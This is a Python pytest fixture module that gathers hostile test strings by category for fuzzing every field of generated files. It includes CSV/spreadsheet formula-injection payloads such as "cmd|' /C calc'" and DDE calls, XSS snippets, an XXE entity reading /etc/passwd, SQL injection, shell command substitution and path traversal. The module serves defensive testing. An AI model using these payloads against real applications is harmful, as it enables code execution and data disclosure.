"""Texts that break programs, by what they break: for every field of every file."""

from types import MappingProxyType

import pytest

FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)*9",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.gov/?x="&A1,"click")',
    '=WEBSERVICE("https://example.gov/")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060\u200d=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\uff5ccalc",
    "\uff05x",
    "\u202e=1+1",
    "+1-800-555-0100",
)
HOSTILE = MappingProxyType(
    {
        "nothing": ("", " ", "   ", "\u00a0", "\u200b", "\ufeff"),
        "reserved words": (
            *("undefined", "null", "NULL", "None", "nil", "NaN", "Infinity", "-Infinity"),
            *("true", "false", "TRUE", "FALSE", "#N/A", "#REF!", "#DIV/0!", "#NAME?", "__proto__"),
        ),
        "numbers": (
            *("0", "1", "1.00", "$1.00", "1/2", "1E2", "1E+309", "-1", "-1.00", "0x7f", "0..0"),
            *("1,000.00", "1.000,00", "1 000", "00012", "9" * 96, "1-2-2026", "3/4", "1:30", "१२३"),
        ),
        "signs": (
            *(",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "'", '"', "''", '""', "'\"'", "\"''\""),
            *("\\", "\\\\", "\\n", "%", "%%", "&", "&&", "&amp;", "&#38;", "a;b,c\td"),
        ),
        "apostrophes": ("'", "'=1+1", "''=1+1", "'+1", "'quoted'", "'plain"),
        "controls": (
            "".join(map(chr, range(1, 32))),
            "".join(map(chr, range(127, 160))),
            "before\0after",
            "\x1b[31mred\x1b[0m",
            "line\rline\r\nline\nline\u2028line\u2029line\x0bline\x0cline\x85line",
        ),
        "unicode": (
            *("Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "ЁЂЃЄЅІЇЈ", "٠١٢٣٤", "⁰⁴⁵₀₁₂", "ÅÍÎÏ˝ÓÔÒÚÆ☃"),
            *(
                "田中さんにあげて下さい",
                "울란바토르",
                "社會科學院",
                "𠜎𠜱𠝹𠱓",
                "Ⱥ Ⱦ",
                "ﬁﬂ",
                "ṩ s\u0323\u0307",
            ),
            *("\ufdd0\ufdef", "\ufffe\uffff", "\U0001fffe\U0010ffff", "\ue000\U000f0000", "\ufffd"),
        ),
        "right to left": (
            *(
                "שָׁלוֹם",
                "الكل في المجمو عة",
                "test \u202eabc\u202c",
                "\u2066a\u2067b\u2069c",
                "\u200fx",
            ),
            "إيو. 12-34 (56) بعد",
        ),
        "emoji": (
            *("😍", "👩🏽", "👨‍👩‍👧‍👦", "🇺🇸🇷🇺", "0️⃣ 1️⃣", "🏳️‍🌈", "❤️", "(╯°□°）╯︵ ┻━┻"),
            "\U0001f3f4\U000e0067\U000e0062\U000e007f",
        ),
        "marks upon marks": ("Z\u0300\u0316\u0301\u0317" * 40, "ṰͦÓ͔ ͞iͨn͚v̼o͎k͜e", "e" + "\u0301" * 500),
        "surrogates": ("half \ud800 pair", "\udfff", "\udc80\udcff", "a\ud83d", "\ude00\ud83d"),
        "markup": (
            *(
                "<script>alert(1)</script>",
                "<b>bold</b>",
                "<para>",
                "]]>",
                "<![CDATA[x]]>",
                "<!-- x",
            ),
            *(
                "<img src=x onerror=alert(1)>",
                "javascript:alert(1)",
                "<?xml version='1.0'?>",
                "</c>",
            ),
            '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
        ),
        "queries": ("1;DROP TABLE users", "' OR 1=1 -- 1", "'; VACUUM; --", "Robert'); --", "%%%_"),
        "formats": (
            *(
                "%s%s%s%n",
                "%d %x",
                "{0} {1!r}",
                "{{}}",
                "${HOME}",
                "$(touch x)",
                "`touch x`",
                "%PATH%",
            ),
            *("{{7*7}}", "$USER", "#{1}", "%n%n", "\\u0041", "_x0041_", "_x000D_", "_x005F_x0041_"),
        ),
        "file names": (
            *("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "../../etc/passwd", "/dev/null", "C:\\x"),
            *("a/b", "a:b", ".", "..", "~", "file?.pdf", "name.", "name "),
        ),
        "sheet names": (
            "History",
            "A1",
            "R1C1",
            "'x'",
            "[Book]Sheet!A1",
            "x" * 40,
            "a:b/c\\d?e*f[g]",
        ),
        "phones": ("+1 (555) 010-0123", "(555) 010-0123", "555-0123", "+44 20 7946 0018"),
        "pdf": ("(unbalanced \\ ) endstream endobj %%EOF", "/JavaScript", "BT (x) Tj ET", "EMC"),
        "long": (
            "x" * 100_000,
            "word " * 20_000,
            "=" + "1+" * 40_000 + "1",
            "漢" * 40_000,
            "😀" * 40_000,
        ),
        "lines": ("\n" * 300, "a\nb", "\n\nlast", "a\tb\tc", "line\n" * 300),
        "formulas": FORMULAS,
    }
)
CASES = tuple(
    pytest.param(text, id=f"{kind} {number}")
    for kind, texts in HOSTILE.items()
    for number, text in enumerate(texts, 1)
)
